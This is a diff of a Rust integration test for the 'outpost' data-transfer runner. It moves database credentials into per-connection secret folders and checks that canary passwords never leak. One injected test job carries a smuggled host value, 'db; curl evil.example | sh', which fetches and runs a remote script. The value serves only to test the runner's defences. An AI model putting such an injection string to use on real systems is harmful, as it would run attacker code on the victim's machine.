@@ -10,17 +10,28 @@ use std::path::PathBuf;
 
 use support::{contains, env, outpost, psql, serve};
 
-fn job(id: &str, connection: &str, user: &str, mode: &str) -> serde_json::Value {
+/// A job chooses only what a job may (the schemas); the connection's folder says where its
+/// password may go.
+fn job(id: &str, connection: &str, mode: &str) -> serde_json::Value {
     serde_json::json!({
         "id": id, "runId": "r1", "connector": "postgres", "connection": connection,
-        "transferMode": mode,
-        "parameters": {
-            "host": env("OUTPOST_TEST_PG_HOST"),
-            "port": env("OUTPOST_TEST_PG_PORT").parse::<u64>().expect("port"),
-            "database": "postgres", "user": user, "ssl-mode": "require",
-            "include-schemas": "^public$"
-        }
+        "transferMode": mode, "parameters": { "include-schemas": "^public$" }
     })
+}
+
+/// A connection's folder, as its Secret would be mounted: the password and where it may go.
+fn connection_folder(dir: &std::path::Path, user: &str, password: &str) {
+    std::fs::create_dir_all(dir).expect("connection folder");
+    for (key, value) in [
+        ("host", env("OUTPOST_TEST_PG_HOST")),
+        ("port", env("OUTPOST_TEST_PG_PORT")),
+        ("database", "postgres".to_owned()),
+        ("user", user.to_owned()),
+        ("ssl-mode", "require".to_owned()),
+        ("password", password.to_owned()),
+    ] {
+        std::fs::write(dir.join(key), value).expect("connection value");
+    }
 }
 
 #[test]
@@ -38,20 +49,13 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     // One folder per connection, as the Secrets `outpost-source-<connection>` would be.
     let secrets = dir.join("secrets");
     for (connection, password) in [("pg-good", &good_canary), ("pg-wrong", &wrong_canary)] {
-        std::fs::create_dir_all(secrets.join(connection)).expect("secrets dir");
-        std::fs::write(secrets.join(connection).join("password"), password).expect("password");
+        connection_folder(&secrets.join(connection), &role, password);
     }
     let server = serve(&dir);
     // Direct ingestion: the control plane signs the URLs, s3s-fs checks them.
-    server.enqueue(
-        "good",
-        &job("job-good", "pg-good", &role, "direct-ingestion"),
-    );
-    server.enqueue(
-        "wrong",
-        &job("job-wrong", "pg-wrong", &role, "bucket-relay"),
-    );
-    let mut injected = job("job-injected", "pg-good", &role, "bucket-relay");
+    server.enqueue("good", &job("job-good", "pg-good", "direct-ingestion"));
+    server.enqueue("wrong", &job("job-wrong", "pg-wrong", "bucket-relay"));
+    let mut injected = job("job-injected", "pg-good", "bucket-relay");
     injected["image"] = serde_json::json!("evil/image:latest");
     injected["parameters"]["host"] = serde_json::json!("db; curl evil.example | sh");
     server.enqueue("injected", &injected);
@@ -59,11 +63,16 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     let bucket = dir.join("bucket");
     let run = outpost()
         .args(["run", "--once", "--control-plane", &server.url])
+        // Unsigned jobs, knowingly: signing has its own tests (signed_jobs_cli.rs).
+        .arg("--insecure-unsigned-jobs")
         .arg("--token-file")
         .arg(server.agent_token())
         .arg("--secrets-root")
         .arg(&secrets)
         .arg(format!("--to=file://{}", bucket.display()))
+        // The control plane signs upload URLs for s3s-fs on loopback, which direct ingestion
+        // refuses without the explicit opt-in (security issue 13, M2).
+        .arg("--allow-loopback-ingest")
         .env("OUTPOST_AGENT_ID", "local-1")
         .output()
         .expect("run");
@@ -124,9 +133,10 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     // logs in the bucket, nor in what the runner printed.
     shipped.extend(relay_log.as_bytes());
     let found = |needle: &str| contains(&shipped, needle);
-    // The search finds what is there: the role name is in the jobs and the logs.
+    // The search finds what is there: the connections are named in the jobs and the logs
+    // (the role name no longer is: it is the connection's, not the job's).
     assert!(
-        found(&role),
+        found("pg-good") && found("pg-wrong"),
         "the search cannot find what the control plane holds"
     );
     for canary in [&good_canary, &wrong_canary] {
@@ -134,4 +144,61 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
         assert!(!stdout.contains(canary.as_str()) && !stderr.contains(canary.as_str()));
     }
     psql(&format!("DROP ROLE IF EXISTS {role}"));
+}
+
+/// The README's "run a control plane's jobs on one machine" commands, run as written (with the
+/// built binary for `cargo run -p outpost --`, a free port for 8080 and a real SQLite file for
+/// `/srv/app.db`): the job ends `succeeded` and the run is in `outpost-output/`.
+#[test]
+fn the_readme_local_control_plane_commands_work_as_written() {
+    let readme = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../README.md"),
+    )
+    .expect("README");
+    let start = readme
+        .find("Try it against the reference control plane:\n\n```sh\n")
+        .expect("the README's local control-plane block");
+    let block = &readme[start..];
+    let block = &block[block.find("```sh\n").expect("fence") + 6..];
+    let block = &block[..block.find("```").expect("closing fence")];
+    let scratch = support::scratch("readme-cp");
+    let dir = scratch.path();
+    let database = dir.join("app.db");
+    let connection = rusqlite::Connection::open(&database).expect("sqlite");
+    connection
+        .execute_batch("CREATE TABLE orders (id INTEGER PRIMARY KEY, total REAL);")
+        .expect("schema");
+    drop(connection);
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .expect("bind")
+        .local_addr()
+        .expect("address")
+        .port();
+    let binary = env!("CARGO_BIN_EXE_outpost");
+    let script = block
+        .replace("cargo run -p outpost --", binary)
+        .replace("127.0.0.1:8080", &format!("127.0.0.1:{port}"))
+        .replace(
+            "--signing-key signing-key &",
+            &format!("--signing-key signing-key --listen 127.0.0.1:{port} >/dev/null & sleep 1"),
+        )
+        .replace("/srv/app.db", &database.display().to_string());
+    assert!(
+        script.contains(" & sleep 1"),
+        "the serve line changed: {script}"
+    );
+    let out = std::process::Command::new("bash")
+        .arg("-c")
+        .arg(format!("set -e\ntrap 'kill %1 2>/dev/null' EXIT\n{script}"))
+        .current_dir(dir)
+        // The runner keeps signed jobs' nonces in its state folder: here, the scratch one.
+        .env("XDG_STATE_HOME", dir.join("state"))
+        .output()
+        .expect("bash");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{script}\n{stdout}\n{stderr}");
+    assert!(stdout.contains("1 succeeded"), "{stdout}\n{stderr}");
+    let manifest = dir.join("outpost-output/demo/job-1/r1/manifest.json");
+    assert!(manifest.is_file(), "no manifest at {}", manifest.display());
 }
